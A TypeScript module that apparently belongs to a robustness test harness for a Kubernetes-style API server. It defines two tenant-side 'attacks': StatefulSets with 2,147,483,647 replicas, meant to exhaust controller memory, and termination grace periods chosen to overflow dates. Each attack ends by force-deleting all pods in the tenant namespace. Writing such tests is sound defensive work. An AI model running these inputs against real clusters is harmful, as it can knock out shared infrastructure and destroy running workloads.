import { setTimeout as wait } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

const template = {
  metadata: { labels: { app: 'huge' } },
  spec: { containers: [{ name: 'main', image: 'busybox:1.36' }] },
};
const selector = { matchLabels: { app: 'huge' } };

/** Time that controllers get to act on an object. */
const SETTLE_MS = 2_000;

/** A plan that lists every ordinal would need memory for two thousand million of them. */
export const hugeStatefulSet: Attack = {
  name: 'huge stateful set',
  async run({ tenant }) {
    const path = '/apis/apps/v1/namespaces/tenant/statefulsets';
    for (const podManagementPolicy of ['OrderedReady', 'Parallel']) {
      const name = `huge-${podManagementPolicy.toLowerCase()}`;
      const spec = { replicas: 2_147_483_647, podManagementPolicy, serviceName: 'huge', selector, template };
      await tenant.send('POST', path, { body: { metadata: { name }, spec } });
      await wait(SETTLE_MS);
      await tenant.send('DELETE', `${path}/${name}`);
    }
    await tenant.send('DELETE', '/api/v1/namespaces/tenant/pods?gracePeriodSeconds=0');
  },
};

const SECONDS = [2 ** 31, 2 ** 53 - 1, 2 ** 53, 9.3e18, -1, 1.5];

/** Periods that overflow a date. */
export const hugeGracePeriod: Attack = {
  name: 'huge grace period',
  async run({ tenant }) {
    const path = '/api/v1/namespaces/tenant/pods';
    for (const [i, seconds] of SECONDS.entries()) {
      const name = `grace-${i}`;
      const spec = { ...template.spec, terminationGracePeriodSeconds: Math.max(0, seconds) };
      await tenant.send('POST', path, { body: { metadata: { name }, spec: template.spec } });
      await tenant.send('POST', path, { body: { metadata: { name: `${name}-own` }, spec } });
      await tenant.send('DELETE', `${path}/${name}`, { body: { gracePeriodSeconds: seconds } });
      await tenant.send('DELETE', `${path}/${name}-own`);
      await tenant.send('DELETE', `${path}/${name}?gracePeriodSeconds=${seconds}`);
    }
    await tenant.send('DELETE', `${path}?gracePeriodSeconds=0`);
  },
};
